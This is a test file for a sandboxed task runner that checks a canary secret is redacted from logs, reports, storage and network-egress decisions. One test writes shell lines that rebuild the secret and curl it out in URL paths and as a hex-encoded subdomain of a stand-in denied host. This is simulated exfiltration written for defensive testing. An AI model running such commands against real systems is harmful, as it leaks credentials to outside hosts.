import { spawn } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import type { Ended } from './seamark.ts'
import { NODE, place } from './seamark.ts'

const here = place()
const value = 'sk-canary-Zq8@0123456789+abc'
const base64 = Buffer.from(value).toString('base64')
const plan = `version: 1
defaults: { executor: sandbox }
items:
  - id: says
    run: printf 'a ${value} b ${base64} c' && printf '${value}' >&2
    network: { allow: [{ host: api.example, mode: endpoint, paths: [/v1/*] }] }
  - id: keeps
    run: mkdir out && printf 'one\\ntwo ${base64}\\n' > out/f.txt
    network: { allow: [{ host: api.example, mode: endpoint, paths: [/v1/*] }] }
  - id: other
    run: printf 'nothing'
`

let ran: Ended

beforeAll(async () => {
  const { SEAMARK_DATA: _, SEAMARK_CONFIG: __, NODE_OPTIONS: ___, ...env } = process.env
  const [program, ...argv] = NODE
  const set = spawn(program, [...argv, 'secrets', 'set', 'canary'], {
    cwd: here.dir,
    env,
    stdio: ['pipe', 'ignore', 'ignore'],
  })
  set.stdin.end(value)
  expect(await new Promise((resolve) => set.on('close', resolve))).toBe(0)
  here.write('plan.yaml', plan)
  here.write(
    'seamark.config.mjs',
    `export default {
  policy: { network: { allow: [{ host: 'api.example', mode: 'endpoint', paths: ['/v1/*'], inject: 'canary' }] } },
  egress: { credentials: { canary: { way: 'bearer' } } },
}
`,
  )
  ran = await here.seamark('run', 'plan.yaml', '--config', 'seamark.config.mjs')
}, 60_000)

afterAll(() => here.remove())

/** Everything below a folder, as one text. */
function everything(dir: string): string {
  return readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1'))
    .join('\n')
}

it('takes a secret of the policy out of what programs wrote', async () => {
  const { out } = await here.seamark('logs', 'last', 'says', '--config', 'seamark.config.mjs')
  expect(out).toBe('a [redacted:canary] b [redacted:canary] c')
}, 30_000)

it('fails an item that left one in a file, names the file and the line, and stores none of it', async () => {
  expect(ran.code).toBe(11)
  const { out } = await here.seamark('status', 'last', 'keeps', '--json', '--config', 'seamark.config.mjs')
  const where = 'The value of the secret canary is in "out/f.txt", line 2.'
  expect(JSON.parse(out)).toMatchObject({ status: 'failed', reason: 'secret', detail: where })
  expect(ran.out).toContain(where)
  for (const args of [['last'], ['last', 'keeps']])
    expect((await here.seamark('status', ...args, '--config', 'seamark.config.mjs')).out).toContain(where)
  await here.seamark('report', 'last', '-o', join(here.dir, 'keeps.html'), '--config', 'seamark.config.mjs')
  const page = readFileSync(join(here.dir, 'keeps.html'), 'utf8')
  expect(page.replaceAll('&quot;', '"')).toContain(where)
  expect(page).not.toContain(base64)
  const storage = everything(join(here.data, 'storage'))
  expect(storage).not.toContain(value)
  expect(storage).not.toContain(base64)
  for (const text of [ran.out, ran.err, out]) expect(text).not.toContain(base64)
}, 30_000)

it('tells no secret in the decisions about what a program asked to reach', async () => {
  const hex = Buffer.from(value).toString('hex')
  // Put together inside only: the plan is a record too.
  const [begin, end] = [value.slice(0, 9), value.slice(9)]
  const asks = [
    `whole=${begin}; whole="$whole${end}"`,
    'hex=$(printf %s "$whole" | od -An -tx1 | tr -d " \\n")',
    `base=$(node -p 'JSON.parse(process.env.SEAMARK_ENDPOINTS)["api.example"]')`,
    'curl -s -o /dev/null "$base/plain/$whole/end" || true',
    'curl -s -o /dev/null "$base/coded/$(printf %s "$whole" | base64 -w0)/end" || true',
    'curl -s -o /dev/null "https://$hex.denied.example/" || true',
  ]
  here.write(
    'asks.yaml',
    `version: 1
defaults: { executor: sandbox }
items:
  - id: asks
    run: |
${asks.map((line) => `      ${line}`).join('\n')}
    network: { allow: [{ host: api.example, mode: endpoint, paths: [/v1/*] }] }
`,
  )
  const asked = await here.seamark('run', 'asks.yaml', '--id', 'asks', '--json', '--config', 'seamark.config.mjs')
  const decided = asked.out
    .trim()
    .split('\n')
    .map((line): { readonly kind?: string; readonly data?: unknown } => JSON.parse(line))
    .filter(({ kind }) => kind === 'egress.decided')
  expect(decided.map(({ data }) => data)).toEqual([
    expect.objectContaining({ reason: 'path', host: 'api.example', path: '/plain/[redacted:canary]/end' }),
    expect.objectContaining({ reason: 'path', host: 'api.example', path: '/coded/[redacted:canary]/end' }),
    expect.objectContaining({ reason: 'not-listed', host: '[redacted:canary].denied.example' }),
  ])
  const page = join(here.dir, 'asks.html')
  const report = await here.seamark('report', 'asks', '-o', page, '--config', 'seamark.config.mjs')
  expect(report).toMatchObject({ code: 0 })
  const shown = readFileSync(page, 'utf8')
  expect(shown).toContain('/plain/[redacted:canary]/end')
  for (const text of [asked.out, asked.err, shown])
    for (const form of [value, base64, hex]) expect(text).not.toContain(form)
}, 60_000)
